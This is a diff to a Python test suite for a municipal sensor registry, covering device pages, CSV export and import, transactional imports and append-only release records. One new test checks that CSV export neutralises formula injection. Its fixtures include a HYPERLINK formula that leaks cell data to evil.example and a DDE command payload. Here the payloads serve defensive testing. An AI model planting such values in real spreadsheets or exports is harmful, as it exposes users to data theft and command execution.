@@ -3,18 +3,20 @@ signage and the map settings."""
 
 import csv
 import io
-import time
 from datetime import date
 
 import pytest
+from sqlalchemy import event
 from sqlalchemy.exc import IntegrityError
 
+from participation.core.append_only import AppendOnlyError
 from participation.core.models import ActionLog, Role, SearchOutbox
 from participation.core.types import utcnow
 from participation.extensions import db
 from participation.sensors import ledger, opendata, services
 from participation.sensors.models import Device, DeviceVersion, FootageRelease
 
+from ..conftest import html_of
 from .conftest import complete_fields, ja
 
 EN = {"Accept-Language": "en"}
@@ -58,7 +60,7 @@ def test_unknown_dtpr_values_are_refused(app):
 
 def test_device_page_shows_dtpr_values_with_pictograms(client, make_device):
     device_id = make_device(dtpr={"purpose": ["safety_security"], "tech": ["video_camera"], "storage": ["local"]})
-    page = client.get(f"/sensors/{device_id}", headers=EN).get_data(as_text=True)
+    page = html_of(client.get(f"/sensors/{device_id}", headers=EN))
     assert "Safety &amp; security" in page
     assert 'class="dtpr-icon dtpr-icon--purpose"' in page
     assert 'class="dtpr-icon dtpr-icon--retention"' in page  # derived from the 14 days
@@ -69,16 +71,16 @@ def test_device_page_shows_dtpr_values_with_pictograms(client, make_device):
 def test_purpose_filter(client, make_device):
     make_device(name=ja("防犯カメラA"))
     make_device(name=ja("人流センサーB"), dtpr={"purpose": ["planning"], "tech": ["infrared_counter"]})
-    page = client.get("/sensors?purpose=planning").get_data(as_text=True)
+    page = html_of(client.get("/sensors?purpose=planning"))
     assert "人流センサーB" in page and "防犯カメラA" not in page
     assert client.get("/sensors?purpose=nonsense").status_code == 200
 
 
 def test_expired_devices_are_flagged_to_staff_and_the_public(app, client, make_device, make_user, login):
     device_id = make_device(active_since=date(2020, 4, 1), active_until=date(2021, 3, 31))
-    assert "Expired" in client.get(f"/sensors/{device_id}", headers=EN).get_data(as_text=True)
+    assert "Expired" in html_of(client.get(f"/sensors/{device_id}", headers=EN))
     login(make_user(Role.STAFF))
-    page = client.get("/admin/sensors", headers=EN).get_data(as_text=True)
+    page = html_of(client.get("/admin/sensors", headers=EN))
     assert "Needing renewal" in page and f"/admin/sensors/{device_id}" in page
 
 
@@ -104,7 +106,7 @@ def _release(app, ids, **overrides):
 def test_release_is_recorded_publicly_and_logged(app, client, make_device):
     device_id = make_device()
     _release(app, [device_id])
-    page = client.get("/sensors/releases", headers=EN).get_data(as_text=True)
+    page = html_of(client.get("/sensors/releases", headers=EN))
     assert "Criminal investigation, on request of an investigative agency" in page
     assert "Police" in page
     with app.app_context():
@@ -150,15 +152,15 @@ def test_corrections_are_new_entries_and_entries_never_change(app, client, make_
     with app.app_context():
         entry = db.session.get(FootageRelease, first)
         entry.items = 99
-        with pytest.raises(ValueError, match="append-only"):
+        with pytest.raises(AppendOnlyError, match="append-only"):
             db.session.commit()
         db.session.rollback()
-        with pytest.raises(ValueError, match="append-only"):
+        with pytest.raises(AppendOnlyError, match="append-only"):
             db.session.delete(db.session.get(FootageRelease, first))
             db.session.flush()
         db.session.rollback()
         assert db.session.get(FootageRelease, first).items == 2
-    page = client.get("/sensors/releases", headers=EN).get_data(as_text=True)
+    page = html_of(client.get("/sensors/releases", headers=EN))
     assert f"Corrected by entry #{second}" in page and f"Corrects entry #{first}" in page
     with app.app_context():
         figures = ledger.yearly_report(2025)
@@ -254,7 +256,7 @@ def test_yearly_report_counts_by_kind_area_ground_and_recipient(app, client, mak
         (EN, "Operating report for fiscal year 2025"),
         ({"Accept-Language": "ja"}, "2025年度 運用状況報告"),
     ):
-        page = client.get("/sensors/reports/2025", headers=headers).get_data(as_text=True)
+        page = html_of(client.get("/sensors/reports/2025", headers=headers))
         assert text in page
         assert page.count('<svg class="chart"') == 4
         assert "<script" not in page.split("<main", 1)[1]
@@ -294,7 +296,7 @@ def test_map_page_and_geojson_queries_do_not_grow(app, client, count_queries, pa
 
 
 def test_csv_export_round_trips_through_import(app, client, make_device, make_user):
-    make_device()
+    device_id = make_device()
     make_device(published=False, name=ja("下書き"))
     response = client.get("/sensors.csv")
     assert response.mimetype == "text/csv"
@@ -305,7 +307,27 @@ def test_csv_export_round_trips_through_import(app, client, make_device, make_us
     assert rows[0]["dtpr"] == "purpose:safety_security; tech:video_camera identifiable_video"
     with app.app_context():
         devices = opendata.import_csv(None, body.encode("utf-8"))
-        assert devices[0].snapshot() | {"name": None} == db.session.get(Device, 1).snapshot() | {"name": None}
+        assert devices[0].snapshot() | {"name": None} == db.session.get(Device, device_id).snapshot() | {"name": None}
+
+
+def test_csv_export_keeps_formulas_as_text_and_import_restores_them(app, client, make_device):
+    """A spreadsheet must not run a device's name or contact as a formula (issue 12)."""
+    evil = '=HYPERLINK("https://evil.example/?leak="&A2,"詳しくはこちら")'
+    make_device(name=ja(evil, "+cmd|' /C calc'!A0"), contact=ja("@SUM(1+1)", "-2+3"), latitude=34.5, longitude=-0.25)
+    response = client.get("/sensors.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    body = response.get_data(as_text=True)
+    assert body.startswith("\ufeff")
+    row = next(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
+    assert row["name_ja"] == "'" + evil and row["name_en"] == "'+cmd|' /C calc'!A0"
+    assert row["contact_ja"] == "'@SUM(1+1)" and row["contact_en"] == "'-2+3"
+    assert row["longitude"] == "-0.250000"  # a negative number stays a number
+    for value in row.values():
+        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+    with app.app_context():
+        imported = opendata.import_csv(None, body.encode("utf-8"), publish=False)[0]
+        assert dict(imported.name) == {"ja": evil, "en": "+cmd|' /C calc'!A0"}
+        assert dict(imported.contact) == {"ja": "@SUM(1+1)", "en": "-2+3"}
 
 
 # --- import ---------------------------------------------------------------------------------------
@@ -413,17 +435,71 @@ def test_residents_cannot_import(client, make_user, login):
     )
 
 
-def test_import_of_2000_devices_is_one_transaction(app, count_queries):
+def _writing_transactions(app):
+    """Inside a block, the number of committed transactions that wrote anything."""
+    from contextlib import contextmanager
+
+    @contextmanager
+    def counting():
+        with app.app_context():
+            engine = db.engine
+        wrote, committed = [False], []
+
+        def on_statement(_conn, _cursor, statement, *_args):
+            if statement.lstrip().upper().startswith(("INSERT", "UPDATE", "DELETE")):
+                wrote[0] = True
+
+        def on_commit(_conn):
+            if wrote[0]:
+                committed.append(1)
+            wrote[0] = False
+
+        event.listen(engine, "before_cursor_execute", on_statement)
+        event.listen(engine, "commit", on_commit)
+        try:
+            yield committed
+        finally:
+            event.remove(engine, "before_cursor_execute", on_statement)
+            event.remove(engine, "commit", on_commit)
+
+    return counting()
+
+
+def test_import_of_2000_devices_is_one_transaction(app):
     data = _csv([_good_row(i) for i in range(2000)])
-    with app.app_context():
-        start = time.perf_counter()
+    with app.app_context(), _writing_transactions(app) as transactions:
         devices = opendata.import_csv(None, data)
-        elapsed = time.perf_counter() - start
+    assert len(transactions) == 1
     assert len(devices) == 2000
     assert _count(app, Device) == 2000 and _count(app, DeviceVersion) == 2000
     # Indexing is left to `flask search sync` rather than holding the request.
     assert _count(app, SearchOutbox) == 2000
-    assert elapsed < 30, elapsed
+
+
+def test_an_import_failing_at_its_last_row_keeps_nothing(app, monkeypatch):
+    """The database refusing the last device (after every row passed validation) rolls back the
+    devices, versions, outbox rows and log entry written before it."""
+    rows = 300
+    inserted = []
+
+    def refuse_the_last(_mapper, _connection, target):
+        inserted.append(target)
+        if len(inserted) == rows:
+            raise IntegrityError("INSERT", {}, Exception("refused by the database"))
+
+    event.listen(Device, "before_insert", refuse_the_last)
+    try:
+        with app.app_context(), pytest.raises(IntegrityError):
+            opendata.import_csv(None, _csv([_good_row(i) for i in range(rows)]))
+    finally:
+        event.remove(Device, "before_insert", refuse_the_last)
+    assert len(inserted) == rows
+    assert _count(app, Device) == 0 and _count(app, DeviceVersion) == 0
+    assert _count(app, SearchOutbox) == 0
+    with app.app_context():
+        assert (
+            db.session.scalar(db.select(db.func.count(ActionLog.id)).where(ActionLog.action == "sensor.imported")) == 0
+        )
 
 
 # --- signage, map settings, hooks ---------------------------------------------------------------
@@ -431,7 +507,7 @@ def test_import_of_2000_devices_is_one_transaction(app, count_queries):
 
 def test_signage_has_the_facts_and_a_qr_code(client, make_device):
     device_id = make_device()
-    page = client.get(f"/sensors/{device_id}/signage", headers=EN).get_data(as_text=True)
+    page = html_of(client.get(f"/sensors/{device_id}/signage", headers=EN))
     assert 'class="segno"' in page and "signage-sticker" in page and "signage-notice" in page
     assert f"http://localhost/sensors/{device_id}" in page
     assert "14 days" in page and "Community Safety Division" in page
@@ -478,8 +554,8 @@ def test_rights_link_appears_only_when_the_rights_desk_exists(make_app, make_dev
 
     app = make_app()
     device_id = make_device()
-    page = app.test_client().get(f"/sensors/{device_id}").get_data(as_text=True)
+    page = html_of(app.test_client().get(f"/sensors/{device_id}"))
     assert f"/rights/new?about=sensor:{device_id}" in page or f"/rights/new?about=sensor%3A{device_id}" in page
     without_rights = [name for name in DEFAULTS["CAPABILITIES"] if not name.startswith("participation.rights")]
     app = make_app(CAPABILITIES=without_rights)
-    assert "about=sensor" not in app.test_client().get(f"/sensors/{device_id}").get_data(as_text=True)
+    assert "about=sensor" not in html_of(app.test_client().get(f"/sensors/{device_id}"))
